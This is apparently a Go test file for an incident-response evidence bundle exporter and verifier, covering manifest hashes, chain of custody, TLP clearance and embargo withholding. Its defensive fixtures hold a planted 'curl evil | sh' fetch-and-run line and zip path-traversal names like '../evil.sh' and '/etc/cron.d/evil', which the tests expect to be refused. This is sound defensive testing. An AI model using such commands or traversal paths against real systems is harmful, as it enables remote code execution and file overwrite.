package incident

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"
)

var bundleAt = time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)

const (
	accessLog = "203.0.113.9 - - [20/Nov/2026:07:58:12 +0000] \"POST /upload.php HTTP/1.1\" 200 18\n"
	pcap      = "\xd4\xc3\xb2\xa1\x02\x00\x04\x00 a capture of the beacon"
)

// testIncident returns an incident and its two pieces of evidence, with
// their contents by evidence id.
func testIncident(t testing.TB) (Incident, []Evidence, map[int64]string) {
	in := Incident{ID: 7, Title: "Webshell on shop-web", Category: Exploitation, Severity: SevHigh, State: Contained,
		Detected: bundleAt, Marking: Marking{TLP: Amber}}
	content := map[int64]string{1: accessLog, 2: pcap}
	var evs []Evidence
	for i, name := range []string{"access.log", "capture.pcap"} {
		ev, err := NewEvidence(name, "", strings.NewReader(content[int64(i+1)]), "alice", bundleAt.Add(time.Duration(i)*time.Minute))
		if err != nil {
			t.Fatal(err)
		}
		ev.ID, ev.Incident, ev.Marking = int64(i+1), in.ID, Marking{TLP: Amber}
		ev.Source = "shop-web-02"
		evs = append(evs, ev)
	}
	return in, evs, content
}

func items(evs []Evidence, content map[int64]string) []BundleItem {
	var its []BundleItem
	for _, ev := range evs {
		its = append(its, BundleItem{Evidence: ev, Content: strings.NewReader(content[ev.ID])})
	}
	return its
}

var testExport = Export{By: "alice", To: Recipient{Name: "ir@forensics.example", Clearance: Amber}, Reason: "insurer's forensic review", At: bundleAt.Add(48 * time.Hour)}

func writeTestBundle(t testing.TB) ([]byte, string) {
	in, evs, content := testIncident(t)
	var b bytes.Buffer
	sum, err := WriteBundle(&b, in, items(evs, content), testExport)
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes(), sum
}

func TestBundleRoundTrip(t *testing.T) {
	b, sum := writeTestBundle(t)
	rep, err := VerifyBundle(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Intact() || len(rep.Problems()) != 0 {
		t.Errorf("fresh bundle not intact: %v", rep.Problems())
	}
	if rep.ManifestSHA256 != sum {
		t.Errorf("manifest SHA-256 %s, WriteBundle returned %s", rep.ManifestSHA256, sum)
	}
	var got []string
	for _, c := range rep.Checks {
		got = append(got, fmt.Sprintf("%s %d %s", c.Path, c.Size, c.SHA256))
	}
	in, evs, content := testIncident(t)
	want := []string{
		fmt.Sprintf("manifest.json %d %s", rep.Checks[0].Size, sum),
		fmt.Sprintf("evidence/1-access.log %d %s", len(accessLog), evs[0].SHA256),
		fmt.Sprintf("evidence/2-capture.pcap %d %s", len(pcap), evs[1].SHA256),
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("checks:\n-want\n%s\n+got\n%s", strings.Join(want, "\n"), strings.Join(got, "\n"))
	}

	m := rep.Manifest
	if m.Format != BundleFormat || m.Incident.ID != in.ID || m.Incident.Title != in.Title || m.Incident.Marking.TLP != Amber ||
		m.ExportedBy != "alice" || !m.ExportedAt.Equal(testExport.At) || m.Reason != testExport.Reason ||
		m.Recipient != "ir@forensics.example" || m.Clearance != Amber || len(m.Files) != 2 {
		t.Fatalf("manifest: %+v", m)
	}
	for i, f := range m.Files {
		ev := evs[i]
		if f.Path != BundlePath(ev) || f.ID != ev.ID || f.Incident != in.ID || f.Name != ev.Name || f.MediaType != ev.MediaType ||
			f.Size != ev.Size || f.SHA256 != ev.SHA256 || f.CollectedBy != "alice" || !f.Collected.Equal(ev.Collected) ||
			f.Source != "shop-web-02" || f.Marking.TLP != Amber {
			t.Errorf("files[%d]:\n got %+v\nwant %+v", i, f, ev)
		}
	}

	// The files come out byte for byte, and manifest.sha256 reads as
	// sha256sum writes it.
	for _, e := range readEntries(t, b) {
		switch e.name {
		case "evidence/1-access.log", "evidence/2-capture.pcap":
			id := int64(e.name[len("evidence/")] - '0')
			if string(e.body) != content[id] {
				t.Errorf("%s: %q", e.name, e.body)
			}
		case ManifestSumName:
			if string(e.body) != sum+"  manifest.json\n" {
				t.Errorf("%s: %q", e.name, e.body)
			}
		}
	}

	// The same export writes the same bytes.
	if again, _ := writeTestBundle(t); !bytes.Equal(again, b) {
		t.Error("two writes of the same export differ")
	}
}

type entry struct {
	name string
	body []byte
	// method and size, when set, are written as given (CreateRaw),
	// with body as the stored bytes.
	raw  bool
	size uint64
}

func readEntries(t testing.TB, b []byte) []entry {
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var es []entry
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		es = append(es, entry{name: f.Name, body: body})
	}
	return es
}

func writeEntries(t testing.TB, es []entry) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, e := range es {
		var (
			w   io.Writer
			err error
		)
		if e.raw {
			w, err = zw.CreateRaw(&zip.FileHeader{Name: e.name, Method: zip.Store, CRC32: 0,
				CompressedSize64: uint64(len(e.body)), UncompressedSize64: e.size})
		} else {
			w, err = zw.Create(e.name)
		}
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(e.body); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func hexSum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// editManifest changes the manifest with edit and, when resum, writes
// its new hash to manifest.sha256 as a forger would.
func editManifest(t testing.TB, es []entry, resum bool, edit func(*Manifest)) []entry {
	var m Manifest
	for i, e := range es {
		if e.name != ManifestName {
			continue
		}
		if err := json.Unmarshal(e.body, &m); err != nil {
			t.Fatal(err)
		}
		edit(&m)
		b, err := json.MarshalIndent(m, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		es[i].body = append(b, '\n')
	}
	if resum {
		for i, e := range es {
			if e.name == ManifestName {
				es = setBody(es, ManifestSumName, hexSum(string(es[i].body))+"  manifest.json\n")
			}
		}
	}
	return es
}

func setBody(es []entry, name, body string) []entry {
	for i := range es {
		if es[i].name == name {
			es[i].body = []byte(body)
		}
	}
	return es
}

func without(es []entry, name string) []entry {
	var out []entry
	for _, e := range es {
		if e.name != name {
			out = append(out, e)
		}
	}
	return out
}

func TestVerifyBundle(t *testing.T) {
	good, sum := writeTestBundle(t)
	_, evs, _ := testIncident(t)
	tamperedLog := strings.Replace(accessLog, "203.0.113.9", "198.51.100.1", 1)
	var total int64 = int64(len(accessLog)) + 1
	for _, e := range readEntries(t, good) {
		if e.name == ManifestName {
			total += int64(len(e.body))
		}
	}
	forged := func(es []entry) string { // the forged manifest's hash
		for _, e := range es {
			if e.name == ManifestName {
				return hexSum(string(e.body))
			}
		}
		return ""
	}
	for _, tc := range []struct {
		name  string
		edit  func([]entry) []entry
		limit bundleLimits
		want  []string // problems, in order
	}{
		{"intact", func(es []entry) []entry { return es }, defaultLimits, nil},
		{"tampered file", func(es []entry) []entry { return setBody(es, "evidence/1-access.log", tamperedLog) }, defaultLimits, []string{
			fmt.Sprintf("evidence/1-access.log: %d bytes, the manifest says %d", len(tamperedLog), len(accessLog)),
		}},
		{"tampered file, same size", func(es []entry) []entry {
			return setBody(es, "evidence/1-access.log", strings.Replace(accessLog, "200", "404", 1))
		}, defaultLimits, []string{
			fmt.Sprintf("evidence/1-access.log: SHA-256 %s, the manifest says %s", hexSum(strings.Replace(accessLog, "200", "404", 1)), evs[0].SHA256),
		}},
		{"tampered manifest", func(es []entry) []entry {
			return editManifest(t, es, false, func(m *Manifest) { m.Files[0].CollectedBy = "mallory" })
		}, defaultLimits, []string{
			"manifest.json: SHA-256 %s, manifest.sha256 says \"" + sum + "\": the manifest was changed",
		}},
		{"manifest.sha256 missing", func(es []entry) []entry { return without(es, ManifestSumName) }, defaultLimits, []string{
			"manifest.json: manifest.sha256 is missing: the manifest cannot be checked",
		}},
		{"file and manifest forged together", func(es []entry) []entry {
			es = setBody(es, "evidence/1-access.log", tamperedLog)
			return editManifest(t, es, true, func(m *Manifest) {
				m.Files[0].Size, m.Files[0].SHA256 = int64(len(tamperedLog)), hexSum(tamperedLog)
			})
		}, defaultLimits, nil}, // caught only by the manifest hash in the custody log: see below
		{"missing file", func(es []entry) []entry { return without(es, "evidence/2-capture.pcap") }, defaultLimits, []string{
			"evidence/2-capture.pcap: missing from the bundle",
		}},
		{"extra file", func(es []entry) []entry {
			return append(es, entry{name: "evidence/3-planted.sh", body: []byte("curl evil | sh")})
		}, defaultLimits, []string{
			"evidence/3-planted.sh: not in the manifest",
		}},
		{"folder entries are fine", func(es []entry) []entry { return append([]entry{{name: "evidence/"}}, es...) }, defaultLimits, nil},
		{"traversal entries", func(es []entry) []entry {
			for _, n := range []string{"../evil.sh", "/etc/cron.d/evil", `evidence\..\..\evil.bat`, "C:/evil.bat", "evidence/./x", "evidence/a\x00b"} {
				es = append(es, entry{name: n, body: []byte("x")})
			}
			return es
		}, defaultLimits, []string{
			"../evil.sh: unsafe path: refused",
			"/etc/cron.d/evil: unsafe path: refused",
			`evidence\..\..\evil.bat: unsafe path: refused`,
			"C:/evil.bat: unsafe path: refused",
			"evidence/./x: unsafe path: refused",
			"evidence/a\x00b: unsafe path: refused",
		}},
		{"manifest lists a traversal path", func(es []entry) []entry {
			es = append(es, entry{name: "../../.bashrc", body: []byte(accessLog)})
			return editManifest(t, es, true, func(m *Manifest) { m.Files[0].Path = "../../.bashrc" })
		}, defaultLimits, []string{
			"../../.bashrc: unsafe path: not a file under evidence/; not read",
			"evidence/1-access.log: not in the manifest",
		}},
		{"listed twice", func(es []entry) []entry {
			return editManifest(t, es, true, func(m *Manifest) { m.Files = append(m.Files, m.Files[1]) })
		}, defaultLimits, []string{
			"evidence/2-capture.pcap: listed twice in the manifest",
		}},
		{"stored twice", func(es []entry) []entry {
			return append(es, entry{name: "evidence/1-access.log", body: []byte(tamperedLog)})
		}, defaultLimits, []string{
			"evidence/1-access.log: stored 2 times",
		}},
		{"oversized entry, by its header", func(es []entry) []entry {
			for i := range es {
				if es[i].name == "evidence/2-capture.pcap" {
					es[i].raw, es[i].size = true, MaxEvidence+1
				}
			}
			return es
		}, defaultLimits, []string{
			"evidence/2-capture.pcap: 104857601 bytes, over the limit of 100 MiB; not read",
		}},
		{"oversized entry", func(es []entry) []entry { return es },
			bundleLimits{entries: 10, file: 64, total: 1 << 20, manifest: 1 << 20}, []string{
				fmt.Sprintf("evidence/1-access.log: %d bytes, over the limit of 64 bytes; not read", len(accessLog)),
			}},
		// The manifest counts towards the total, then the access log:
		// one byte is left for the capture.
		{"bundle over its total", func(es []entry) []entry { return es },
			bundleLimits{entries: 10, file: 1 << 20, total: total, manifest: 1 << 20}, []string{
				fmt.Sprintf("evidence/2-capture.pcap: not read: the bundle is over %d bytes uncompressed", total),
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			es := tc.edit(readEntries(t, good))
			b := writeEntries(t, es)
			rep, err := verifyBundle(bytes.NewReader(b), int64(len(b)), tc.limit)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, e := range rep.Problems() {
				if !errors.Is(e, ErrNotIntact) {
					t.Errorf("%v is not ErrNotIntact", e)
				}
				got = append(got, e.Error())
			}
			want := tc.want
			if len(want) > 0 && strings.Contains(want[0], "SHA-256 %s, manifest.sha256") {
				want = append([]string{fmt.Sprintf(want[0], forged(es))}, want[1:]...)
			}
			if strings.Join(got, "\n") != strings.Join(want, "\n") || rep.Intact() != (len(want) == 0) {
				t.Errorf("problems:\n-want\n%s\n+got\n%s", strings.Join(want, "\n"), strings.Join(got, "\n"))
			}
			if tc.name == "file and manifest forged together" && rep.ManifestSHA256 == sum {
				t.Error("a forged manifest has the exported manifest's hash")
			}
		})
	}
}

// TestVerifyBundleUnreadable: archives that cannot be checked at all.
func TestVerifyBundleUnreadable(t *testing.T) {
	good, _ := writeTestBundle(t)
	es := readEntries(t, good)
	many := make([]entry, MaxBundleEntries+1)
	for i := range many {
		many[i] = entry{name: fmt.Sprintf("evidence/%d-x", i)}
	}
	for _, tc := range []struct {
		name string
		b    []byte
		err  string
	}{
		{"not a zip", []byte("%PDF-1.7"), "not a readable evidence bundle: not a zip archive: zip: not a valid zip file"},
		{"no manifest", writeEntries(t, without(es, ManifestName)), "not a readable evidence bundle: manifest.json: missing"},
		{"manifest not JSON", writeEntries(t, setBody(readEntries(t, good), ManifestName, "{")),
			"not a readable evidence bundle: manifest.json: unexpected end of JSON input"},
		{"another format", writeEntries(t, setBody(readEntries(t, good), ManifestName, `{"format":"zip"}`)),
			`not a readable evidence bundle: manifest.json: format "zip", want "vmc-evidence-bundle/1"`},
		{"manifest twice", writeEntries(t, append(readEntries(t, good), entry{name: ManifestName, body: []byte("{}")})),
			"not a readable evidence bundle: manifest.json: stored 2 times"},
		{"too many entries", writeEntries(t, many), "not a readable evidence bundle: 10001 entries: a bundle holds at most 10000"},
	} {
		_, err := VerifyBundle(bytes.NewReader(tc.b), int64(len(tc.b)))
		if err == nil || err.Error() != tc.err || !errors.Is(err, ErrBundle) {
			t.Errorf("%s:\n got %v\nwant %s", tc.name, err, tc.err)
		}
	}
	// A manifest that inflates past its limit is refused without being
	// read whole.
	big := writeEntries(t, setBody(readEntries(t, good), ManifestName, strings.Repeat(" ", 2<<20)))
	_, err := verifyBundle(bytes.NewReader(big), int64(len(big)), bundleLimits{entries: 10, file: 1 << 20, total: 1 << 30, manifest: 1 << 20})
	if err == nil || err.Error() != "not a readable evidence bundle: manifest.json: 2097152 bytes, over the limit of 1 MiB" {
		t.Errorf("big manifest: %v", err)
	}
}

func TestWriteBundleRefuses(t *testing.T) {
	embargo := &Embargo{Until: testExport.At.Add(24 * time.Hour), Reason: "coordinated disclosure", Recipients: []string{"psirt@vendor.example"}}
	for _, tc := range []struct {
		name string
		edit func(*Incident, []BundleItem, *Export)
		err  string
		is   error
	}{
		{"evidence beyond the recipient's clearance", func(_ *Incident, its []BundleItem, _ *Export) { its[1].Evidence.Marking.TLP = Red },
			"evidence 2 (capture.pcap): withheld: TLP:RED is beyond ir@forensics.example's clearance (TLP:AMBER)", ErrWithheld},
		{"evidence under embargo", func(_ *Incident, its []BundleItem, _ *Export) { its[0].Evidence.Marking.Embargo = embargo },
			"evidence 1 (access.log): withheld: under embargo until 2026-11-23T08:00:00Z", ErrWithheld},
		{"incident beyond the recipient's clearance", func(in *Incident, _ []BundleItem, _ *Export) { in.Marking.TLP = AmberStrict },
			"incident 7: withheld: TLP:AMBER+STRICT is beyond ir@forensics.example's clearance (TLP:AMBER)", ErrWithheld},
		{"stored copy changed", func(_ *Incident, its []BundleItem, _ *Export) {
			its[0].Content = strings.NewReader(strings.ToUpper(accessLog))
		},
			fmt.Sprintf("broken chain of custody: evidence 1 (access.log): content does not match its SHA-256 taken at intake (%s, %d bytes; now %s, %d bytes)",
				hexSum(accessLog), len(accessLog), hexSum(strings.ToUpper(accessLog)), len(accessLog)), ErrCustody},
		{"stored copy grew", func(_ *Incident, its []BundleItem, _ *Export) { its[1].Content = strings.NewReader(pcap + "more") },
			fmt.Sprintf("broken chain of custody: evidence 2 (capture.pcap): content does not match its SHA-256 taken at intake (%s, %d bytes; now %s, %d bytes)",
				hexSum(pcap), len(pcap), hexSum(pcap+"m"), len(pcap)+1), ErrCustody},
		{"another incident's evidence", func(_ *Incident, its []BundleItem, _ *Export) { its[1].Evidence.Incident = 8 },
			"invalid evidence: evidence 2 (capture.pcap): belongs to incident 8, not 7", ErrEvidence},
		{"evidence twice", func(_ *Incident, its []BundleItem, _ *Export) { its[1].Evidence = its[0].Evidence },
			"invalid evidence: evidence 1 (access.log): exported twice (evidence/1-access.log)", ErrEvidence},
		{"no content", func(_ *Incident, its []BundleItem, _ *Export) { its[1].Content = nil },
			"invalid evidence: evidence 2 (capture.pcap): no content", ErrEvidence},
		{"invalid evidence", func(_ *Incident, its []BundleItem, _ *Export) { its[1].Evidence.SHA256 = "" },
			`invalid evidence: evidence 2 (capture.pcap): sha256: "" is not a lowercase hex SHA-256`, ErrEvidence},
		{"no reason", func(_ *Incident, _ []BundleItem, ex *Export) { ex.Reason = " " },
			"invalid evidence: export reason: empty, longer than 64 KiB or not UTF-8 (say why it leaves vmc)", ErrEvidence},
		{"nobody", func(_ *Incident, _ []BundleItem, ex *Export) { ex.By = "" },
			`invalid evidence: export by: "" is not a name`, ErrEvidence},
		{"no clearance", func(_ *Incident, _ []BundleItem, ex *Export) { ex.To.Clearance = "" },
			`invalid evidence: export recipient clearance: unknown ""`, ErrEvidence},
		{"no title", func(in *Incident, _ []BundleItem, _ *Export) { in.Title = "" },
			"invalid evidence: incident title: empty, longer than 500 bytes or not printable", ErrEvidence},
	} {
		in, evs, content := testIncident(t)
		its := items(evs, content)
		ex := testExport
		tc.edit(&in, its, &ex)
		var b bytes.Buffer
		_, err := WriteBundle(&b, in, its, ex)
		if err == nil || err.Error() != tc.err || !errors.Is(err, tc.is) {
			t.Errorf("%s:\n got %v\nwant %s", tc.name, err, tc.err)
		}
	}
	// Withholding is decided before anything is written.
	in, evs, content := testIncident(t)
	evs[1].Marking.TLP = Red
	var b bytes.Buffer
	if _, err := WriteBundle(&b, in, items(evs, content), testExport); err == nil || b.Len() != 0 {
		t.Errorf("withheld export wrote %d bytes (%v)", b.Len(), err)
	}
	// The embargo's named recipient receives it.
	evs[1].Marking = Marking{TLP: Amber, Embargo: embargo}
	ex := testExport
	ex.To.Name = "PSIRT@vendor.example"
	if _, err := WriteBundle(io.Discard, in, items(evs, content), ex); err != nil {
		t.Errorf("to the embargo's recipient: %v", err)
	}
	if _, err := WriteBundle(io.Discard, in, nil, testExport); err == nil || err.Error() != "invalid evidence: no evidence to export" {
		t.Errorf("nothing: %v", err)
	}
}

// FuzzVerifyBundle: no archive makes VerifyBundle panic, and one it
// finds intact holds exactly the files its manifest lists, with their
// hashes.
func FuzzVerifyBundle(f *testing.F) {
	good, _ := writeTestBundle(f)
	f.Add(good)
	es := readEntries(f, good)
	f.Add(writeEntries(f, setBody(readEntries(f, good), "evidence/1-access.log", "x")))
	f.Add(writeEntries(f, without(es, ManifestSumName)))
	f.Add(writeEntries(f, append(readEntries(f, good), entry{name: "../x", body: []byte("x")})))
	f.Add([]byte("PK\x05\x06" + strings.Repeat("\x00", 18)))
	f.Add([]byte{})
	lim := bundleLimits{entries: 100, file: 1 << 20, total: 4 << 20, manifest: 1 << 20}
	f.Fuzz(func(t *testing.T, b []byte) {
		rep, err := verifyBundle(bytes.NewReader(b), int64(len(b)), lim)
		if err != nil {
			if !errors.Is(err, ErrBundle) {
				t.Fatalf("error not ErrBundle: %v", err)
			}
			return
		}
		if !rep.Intact() {
			return
		}
		if len(rep.Checks) != len(rep.Manifest.Files)+1 {
			t.Fatalf("intact with %d checks for %d files", len(rep.Checks), len(rep.Manifest.Files))
		}
		for i, f := range rep.Manifest.Files {
			c := rep.Checks[i+1]
			if c.Path != f.Path || !safePath(c.Path) || c.SHA256 != f.SHA256 || c.Size != f.Size {
				t.Fatalf("intact, but %+v against %+v", c, f)
			}
		}
	})
}
